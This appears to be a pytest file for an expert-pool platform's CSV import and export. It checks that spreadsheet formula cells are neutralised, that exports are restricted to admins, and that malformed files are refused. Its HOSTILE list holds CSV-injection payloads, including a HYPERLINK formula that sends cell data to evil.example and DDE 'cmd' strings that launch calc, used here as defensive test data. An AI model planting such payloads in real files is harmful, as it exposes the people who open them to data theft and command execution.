"""Hostile CSV in the expert pool import, and the export that must not carry it into a spreadsheet as formulas.

A name such as `=HYPERLINK("http://evil","点击")` is just text to the platform, so the import stores it as the
expert's name; the export writes it with a leading apostrophe so that Excel, WPS or LibreOffice show it instead of
running it, and the import reads an export back to the same data. NUL characters and oversized files are refused
whole, with a stable code, and store nothing."""
from __future__ import annotations

import csv
import io

from expert_pool.csv_export import FORMULA_PREFIXES, neutralise
from expert_pool.demo import id_card
from expert_pool.routes import MAX_IMPORT_BYTES
from tests.hostile.state import snapshot
from tests.integration.expert_pool.conftest import admin, supervisor  # noqa: F401  (fixtures)

HEADER = "name,id_card_no,phone,province_code,city_code,category,title,specialties,employer_name,employer_credit_code\n"
# every prefix a spreadsheet evaluates, in the name and the title
HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"点击")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1", "\t=1+1", "\r=1+1"]


def csv_file(rows: list[tuple[str, str]]) -> bytes:
    out = io.StringIO(newline="")
    writer = csv.writer(out, lineterminator="\n")
    for i, (name, title) in enumerate(rows):
        writer.writerow([name, id_card(700_000 + i, "442000"), f"1391234{i:04d}", "440000", "442000", "technical",
                         title, "A0101", "", ""])
    return (HEADER + out.getvalue()).encode()


async def import_csv(client, admin, data: bytes):
    return await client.post("/api/v1/experts/import", headers={**admin.headers, "Content-Type": "text/csv"},
                             data=data)


async def exported(client, admin) -> list[dict[str, str]]:
    resp = await client.get("/api/v1/experts/export.csv", headers=admin.headers)
    assert resp.status == 200, await resp.text()
    assert resp.content_type == "text/csv"
    text = (await resp.read()).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


async def test_formula_cells_are_stored_as_text_and_neutralised_in_the_export(client, raw_conn, admin):
    rows = [(name, "高级工程师") for name in HOSTILE] + [("陈建华", "=HYPERLINK(\"x\")")]
    resp = await import_csv(client, admin, csv_file(rows))
    report = await resp.json()
    assert resp.status == 200, report
    imported = report["imported"]
    assert imported >= 5, report  # the tab and CR prefixes are whitespace the import strips
    records = await exported(client, admin)
    assert len(records) == imported
    for record in records:
        for column, cell in record.items():
            # nothing a spreadsheet would evaluate: every formula cell starts with the apostrophe
            assert not cell.startswith(FORMULA_PREFIXES), (column, cell)
    names = {r["name"] for r in records}
    assert "'" + HOSTILE[0] in names and "'=1+1" in names
    assert any(r["title"] == "'=HYPERLINK(\"x\")" for r in records)
    # the platform kept the text as typed
    stored = {r["name"] for r in await raw_conn.fetch("SELECT name FROM expert")}
    assert HOSTILE[0] in stored and "=1+1" in stored


async def test_an_export_imports_back_to_the_same_data(client, raw_conn, admin):
    resp = await import_csv(client, admin, csv_file([(HOSTILE[0], "=高级工程师"), ("-李明", "@职称")]))
    assert (await resp.json())["imported"] == 2
    export = await client.get("/api/v1/experts/export.csv", headers=admin.headers)
    data = await export.read()
    before = {tuple(r) for r in await raw_conn.fetch("SELECT name, title, id_card_no FROM expert")}
    await raw_conn.execute("DELETE FROM expert")
    resp = await import_csv(client, admin, data)
    assert (await resp.json())["imported"] == 2
    assert {tuple(r) for r in await raw_conn.fetch("SELECT name, title, id_card_no FROM expert")} == before


async def test_only_admins_export_the_pool(client, admin, supervisor):  # noqa: F811
    assert (await client.get("/api/v1/experts/export.csv", headers=supervisor.headers)).status == 403
    assert (await client.get("/api/v1/experts/export.csv")).status == 401


async def test_nul_bytes_refuse_the_whole_file_and_store_nothing(client, raw_conn, admin):
    before = await snapshot(raw_conn)
    for data in (csv_file([("王\x00芳", "工程师")]), HEADER.encode() + b"\x00" * 1000,
                 b"\x00" + csv_file([("王芳", "工程师")])):
        resp = await import_csv(client, admin, data)
        assert resp.status == 422
        assert (await resp.json())["error"]["code"] == "csv_nul_character"
    assert await snapshot(raw_conn) == before


async def test_invalid_text_and_oversized_files_are_refused_whole(client, raw_conn, admin):
    before = await snapshot(raw_conn)
    resp = await import_csv(client, admin, HEADER.encode() + b"\xff\xfe\x80\x81" * 100)
    assert resp.status == 422 and (await resp.json())["error"]["code"] in ("csv_encoding", "csv_header")
    resp = await import_csv(client, admin, b"=cmd|' /C calc'!A0," * 10 + b"\n")
    assert resp.status == 422 and (await resp.json())["error"]["code"] == "csv_header"
    big = HEADER.encode() + b"x" * (MAX_IMPORT_BYTES + 1)
    resp = await import_csv(client, admin, big)
    assert resp.status == 413 and (await resp.json())["error"]["code"] == "upload_too_large"
    assert await snapshot(raw_conn) == before


def test_neutralise_prefixes_exactly_the_formula_starters():
    assert [neutralise(c) for c in ("=1", "+1", "-1", "@a", "\t=1", "\r=1")] == \
        ["'=1", "'+1", "'-1", "'@a", "'\t=1", "'\r=1"]
    assert [neutralise(c) for c in ("陈建华", "A0101", "1-2", "", "'=already")] == \
        ["陈建华", "A0101", "1-2", "", "'=already"]
